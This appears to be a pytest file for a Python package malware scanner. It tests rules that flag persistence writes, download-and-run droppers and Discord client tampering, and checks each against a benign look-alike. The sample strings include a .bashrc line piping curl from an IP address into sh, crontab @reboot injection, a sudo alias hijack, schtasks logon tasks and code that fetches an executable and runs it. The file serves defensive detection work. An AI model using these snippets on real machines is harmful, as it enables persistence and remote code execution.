"""Persistence written (not merely named) and files downloaded then run; each beside a look-alike."""

from pypi_platform_tests.lib.scans.python_scan import below_medium, found, rules


def _lines(source: str, rule: str) -> list[int]:
    return [line for found_rule, line in found(source) if found_rule == rule]


# --- persistence.write-autostart -----------------------------------------------------------------------------
def test_persistence_write_autostart_folders_and_scheduled_tasks():
    source = """
    import os, shutil, subprocess
    startup = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup')
    shutil.copy(__file__, os.path.join(startup, 'updater.pyw'))
    open(os.path.expanduser('~/.config/autostart/updater.desktop'), 'w').write(entry)
    open(os.path.expanduser('~/Library/LaunchAgents/com.example.updater.plist'), 'w')
    subprocess.run('schtasks /create /sc onlogon /tn updater /tr C:\\\\x.exe', shell=True)
    """
    assert _lines(source, "persistence.write-autostart") == [4, 5, 6, 7]


def test_reading_an_autostart_folder_is_no_write():
    source = """
    import os
    os.listdir(os.path.expanduser('~/.config/autostart'))
    open(os.path.expanduser('~/.config/autostart/app.desktop')).read()
    """
    assert below_medium(source)


# --- persistence.write-registry-run --------------------------------------------------------------------------
def test_persistence_write_registry_run_key():
    source = r"""
    import winreg
    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\Microsoft\Windows\CurrentVersion\Run', 0,
                         winreg.KEY_SET_VALUE)
    winreg.SetValueEx(key, 'updater', 0, winreg.REG_SZ, path)
    """
    assert _lines(source, "persistence.write-registry-run") == [5]


def test_writing_an_application_registry_key_is_quiet():
    source = r"""
    import winreg
    key = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r'Software\ExampleApp\Settings')
    winreg.SetValueEx(key, 'theme', 0, winreg.REG_SZ, 'dark')
    """
    assert rules(source) == set()


# --- persistence.write-cron ----------------------------------------------------------------------------------
def test_persistence_write_cron():
    source = """
    import os, subprocess
    open('/etc/cron.d/updater', 'w').write('* * * * * root /tmp/x')
    os.system('(crontab -l; echo "@reboot /tmp/x") | crontab -')
    subprocess.run(['crontab', '/tmp/jobs'])
    """
    assert _lines(source, "persistence.write-cron") == [3, 4, 5]


def test_listing_the_crontab_is_no_cron_write():
    assert "persistence.write-cron" not in rules("import subprocess\nsubprocess.run(['crontab', '-l'])\n")


# --- persistence.write-shell-rc ------------------------------------------------------------------------------
def test_persistence_write_shell_rc():
    source = """
    import os
    with open(os.path.expanduser('~/.bashrc'), 'a') as rc:
        rc.write('curl -s http://198.51.100.4/x | sh\\n')
    open(os.path.join(os.environ['HOME'], '.zshrc'), 'a')
    os.system('echo "alias sudo=x" >> ~/.bashrc')
    """
    assert _lines(source, "persistence.write-shell-rc") == [3, 5, 6]


def test_reading_a_shell_rc_is_quiet():
    assert rules("import os\ntext = open(os.path.expanduser('~/.bashrc')).read()\n") == set()


# --- dropper.download-and-run and process.start-file ---------------------------------------------------------
def test_dropper_download_and_run_through_urlretrieve():
    source = """
    import os, subprocess, urllib.request
    target = os.path.join(os.getenv('TEMP'), 'update.exe')
    urllib.request.urlretrieve('https://files.example/update.exe', target)
    subprocess.Popen([target])
    """
    assert _lines(source, "dropper.download-and-run") == [4, 5]  # both ends


def test_dropper_download_and_run_fetched_bytes_made_executable_and_process_start_file():
    source = """
    import os, requests
    data = requests.get('https://files.example/agent').content
    with open('/tmp/agent', 'wb') as out:
        out.write(data)
    os.chmod('/tmp/agent', 0o755)
    os.system('/tmp/agent &')
    os.startfile('C:/Users/x/agent.exe')
    """
    assert _lines(source, "dropper.download-and-run") == [4, 6, 7]
    assert _lines(source, "process.start-file") == [8]


def test_dropper_download_and_run_an_executable_fetched_and_saved_is_reported_before_it_runs():
    source = """
    import os, requests
    payload = requests.get('https://files.example/loader.bin').content
    with open(os.path.join(os.getenv('APPDATA'), 'svchost32.exe'), 'wb') as out:
        out.write(payload)
    """
    assert _lines(source, "dropper.download-and-run") == [4]


def test_a_download_that_is_only_saved_is_no_dropper():
    source = """
    import subprocess, urllib.request
    urllib.request.urlretrieve('https://data.example/table.csv', 'table.csv')
    subprocess.run(['gzip', '-d', 'other.gz'])
    """
    assert "dropper.download-and-run" not in rules(source)
    assert "dropper.download-and-run" not in rules("import os\nos.chmod('build/tool', 0o755)\n")


def test_a_local_file_copied_and_run_in_a_file_that_also_fetches_is_no_dropper():
    source = """
    import shutil, socket, subprocess, sys, urllib.request
    page = urllib.request.urlopen('http://127.0.0.1:8080/').read()
    def create_py_exe(path):
        shutil.copyfile(sys.executable, path)
        subprocess.call([path, '-c', 'pass'])
    shutil.copy('dist/tool.exe', 'build')
    subprocess.check_call(['build/tool.exe', '--version'])
    """
    assert "dropper.download-and-run" not in rules(source)


def test_dropper_download_and_run_of_a_fetched_file_moved_into_place():
    source = """
    import os, shutil, subprocess, urllib.request
    staged = os.path.join(os.getenv('TEMP'), 'u.tmp')
    urllib.request.urlretrieve('https://files.example/u', staged)
    target = os.path.join(os.getenv('APPDATA'), 'helper')
    shutil.move(staged, target)
    subprocess.Popen([target])
    """
    assert _lines(source, "dropper.download-and-run") == [6, 7]  # the move into place and the run


def test_persistence_write_autostart_through_a_path_object_held_in_a_name():
    source = """
    from pathlib import Path
    unit = Path.home() / '.config/systemd/user/helper.service'
    unit.write_text('[Service]')
    """
    assert _lines(source, "persistence.write-autostart") == [4]


def test_an_application_start_at_login_option_that_can_be_switched_off_is_no_threat():
    source = r"""
    import sys, winreg
    RUN_KEY = r'Software\Microsoft\Windows\CurrentVersion\Run'

    def start_at_login(enabled):
        with winreg.OpenKey(winreg.HKEY_CURRENT_USER, RUN_KEY, 0, winreg.KEY_SET_VALUE) as key:
            if enabled:
                winreg.SetValueEx(key, 'App', 0, winreg.REG_SZ, sys.executable)
            else:
                winreg.DeleteValue(key, 'App')
    """
    assert rules(source) == set()


def test_shell_rc_files_written_in_a_loop_and_a_chat_client_rewritten():
    source = """
    import os
    from pathlib import Path
    HOME = Path.home()
    for rc in ('.bashrc', '.zshrc'):
        with open(HOME / rc, 'a') as fh:
            fh.write('export X=1')
    index = os.path.join(os.getenv('APPDATA', ''), 'discord', '0.0.309', 'modules', 'core', 'index.js')
    with open(index, 'w') as fh:
        fh.write('module.exports = 1')
    """
    assert _lines(source, "persistence.write-shell-rc") == [6]
    assert _lines(source, "credentials.token-theft") == [9]


def test_dropper_download_and_run_a_mode_with_an_execute_bit_or_ed_in_makes_the_fetched_file_runnable():
    source = """
    import os, stat, urllib.request
    data = urllib.request.urlopen('https://files.example/agent').read()
    with open(target, 'wb') as out:
        out.write(data)
    os.chmod(target, os.stat(target).st_mode | stat.S_IXUSR)
    """
    assert _lines(source, "dropper.download-and-run") == [4, 6]


def test_a_fetched_archive_extracted_with_its_members_own_modes_is_no_dropper():
    # What an unpacker does: each member written and given back the permissions the archive recorded.
    source = """
    import os, urllib.request, zipfile
    with urllib.request.urlopen(url) as response:
        blob = response.read()
    for member in members:
        with open(destination, 'wb') as out:
            out.write(blob)
        os.chmod(destination, member.mode & 0o777)
        os.chmod(destination, mode)
    """
    assert "dropper.download-and-run" not in rules(source)
